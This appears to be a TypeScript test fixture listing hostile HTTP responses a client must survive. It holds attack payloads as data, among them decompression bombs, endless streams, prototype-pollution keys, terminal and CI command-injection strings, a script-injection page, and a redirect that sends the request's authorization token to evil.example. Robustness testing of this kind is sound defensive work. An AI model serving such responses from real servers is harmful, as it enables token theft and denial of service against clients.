import type { IncomingMessage } from 'node:http';
import type { Socket } from 'node:net';
import { gzipSync } from 'node:zlib';

/** Writes an answer to a request, or what looks like one, to its socket. */
export type HostileAnswer = (socket: Socket, request: IncomingMessage) => void;

/** A whole answer in raw bytes. */
function raw(head: string, body: string | Buffer = ''): HostileAnswer {
  return (socket) => {
    socket.write(`${head}\r\n`);
    socket.end(body);
  };
}

function json(body: string | Buffer, headers = '', status = '200 OK'): HostileAnswer {
  const length = Buffer.byteLength(body);
  return raw(`HTTP/1.1 ${status}\r\ncontent-type: application/json\r\n${headers}content-length: ${length}\r\n`, body);
}

/** Writes something again and again, as fast as it is taken or once in a while, until the other side has had enough. */
function endless(head: string, piece: string, everyMs: number): HostileAnswer {
  return (socket) => {
    socket.write(head);
    const timer = setInterval(() => {
      if (socket.destroyed) return clearInterval(timer);
      while (socket.writableLength < 1_000_000 && socket.write(piece) && everyMs === 1);
    }, everyMs);
    socket.on('close', () => clearInterval(timer));
  };
}

/** Made when it is first needed, and then kept. */
function once(make: () => HostileAnswer): HostileAnswer {
  let made: HostileAnswer | undefined;
  return (...args) => {
    made ??= make();
    made(...args);
  };
}

const zeros = (bytes: number) => gzipSync(Buffer.alloc(bytes));
const chunked = 'HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n';
const evil =
  '\u001b]8;;http://evil.example\u0007\u001b[2J\u0000\u202e\u2028::stop-commands::x\n::error::x ##[set-output name=x]y';

/** What the suite has met or may meet from a service that means harm or is badly broken, by name. */
export const hostileAnswers: Record<string, HostileAnswer> = {
  'interim answers for ever': endless('', 'HTTP/1.1 103 Early Hints\r\nlink: </a>; rel=preload\r\n\r\n', 100),
  'no answer': () => {},
  'a closed connection': (socket) => void socket.destroy(),
  'half a head': (socket) => void socket.end('HTTP/1.1 200 OK\r\ncontent-ty'),
  'half a body': (socket) => void socket.end('HTTP/1.1 200 OK\r\ncontent-length: 100\r\n\r\n{"learners":['),
  'a body that is longer than it says': raw('HTTP/1.1 200 OK\r\ncontent-length: 2\r\n', '{}HTTP/1.1 200 OK\r\n\r\n'),
  'a body without an end': endless(chunked, `10000\r\n${' '.repeat(65_536)}\r\n`, 1),
  'a body in drops': endless(chunked, '1\r\n \r\n', 100),
  'a wrong chunk': raw('HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n', 'zz\r\n{}\r\n0\r\n\r\n'),
  'a wrong status line': raw('HTP/9 banana\r\n'),
  'status 999': json('{}', '', '999 What'),
  'status 000': raw('HTTP/1.1 000 \r\ncontent-length: 0\r\n'),
  'a switch of protocols': raw('HTTP/1.1 101 Switching Protocols\r\nupgrade: x\r\nconnection: upgrade\r\n'),
  'a thousand headers': once(() => json('{}', `x-many: ${'x'.repeat(8_000)}\r\n`.repeat(1_000))),
  'a header without an end': endless('HTTP/1.1 200 OK\r\nx: ', 'x'.repeat(65_536), 1),
  'a header with an evil name': json('{}', 'constructor: a\r\n__proto__: b\r\nx-a: \u009b31m\r\n'),
  'a bomb': once(() => json(zeros(200_000_000), 'content-encoding: gzip\r\n')),
  'a bomb in a bomb': once(() => json(gzipSync(zeros(500_000_000)), 'content-encoding: gzip, gzip\r\n')),
  'an unknown encoding': json('{}', 'content-encoding: constructor, gzip\r\n'),
  'a redirect to itself': json('{}', 'location: /v1/learners\r\n', '302 Found'),
  'a redirect with secrets': (socket, { headers }) =>
    json(
      '{}',
      `location: https://evil.example/?t=${headers.authorization}\r\n`,
      '307 Temporary Redirect',
    )(socket, {} as IncomingMessage),
  'a page': raw('HTTP/1.1 200 OK\r\ncontent-type: text/html\r\n', '<!doctype html><script>alert(1)</script>'),
  'deep JSON': once(() => json(`${'[{"a":'.repeat(30_000)}1${'}]'.repeat(30_000)}`)),
  'deep learners': once(() => json(`{"learners":[{"email":${'['.repeat(60_000)}${']'.repeat(60_000)}}]}`)),
  'a hundred thousand members': once(() =>
    json(`{${Array.from({ length: 100_000 }, (_, at) => `"member ${at}":${at}`).join()}}`),
  ),
  'a hundred thousand tags': once(() =>
    json(JSON.stringify({ tags: Array.from({ length: 100_000 }, (_, at) => ({ [`m${at}`]: at })) })),
  ),
  'a list that says it has no end': json(
    JSON.stringify({
      totalRecords: 1e15,
      pageIndex: 1,
      pageSize: 20,
      learners: Array(20).fill({ learnerId: 'a', email: 'a@b.c' }),
    }),
  ),
  'values for slow patterns': json(
    JSON.stringify({
      learners: [{ firstName: `${'a'.repeat(60)}!`, email: `${'a'.repeat(40)}!` }],
      firstName: `${'a'.repeat(60)}!`,
    }),
  ),
  'the token of the request': (socket, { headers }) =>
    json(
      JSON.stringify({ error: headers.authorization, title: headers.authorization }),
      '',
      '400 Bad Request',
    )(socket, {} as IncomingMessage),
  'characters that control': json(
    JSON.stringify({ title: evil, learnerId: evil, tags: [evil] }),
    '',
    '400 Bad Request',
  ),
  'a text of ten megabytes': once(() => json(JSON.stringify({ title: 'x'.repeat(10_000_000) }))),
  'evil members': json(
    '{"__proto__":{"a":1},"constructor":{"prototype":1},"toString":1,"learnerId":1e999,"length":-1}',
  ),
  'bytes that are no text': json(Buffer.from([0x7b, 0xff, 0xfe, 0x00, 0x80, 0x7d])),
  'wait for ever': json('{}', 'retry-after: 999999999\r\n', '429 Too Many Requests'),
  'wait until a day that never comes': json(
    '{}',
    'retry-after: Fri, 31 Dec 9999 23:59:59 GMT\r\n',
    '503 Service Unavailable',
  ),
  'nothing, with success': raw('HTTP/1.1 200 OK\r\ncontent-length: 0\r\n'),
  'a created record without an id': json('{}', 'location: \r\n', '201 Created'),
};
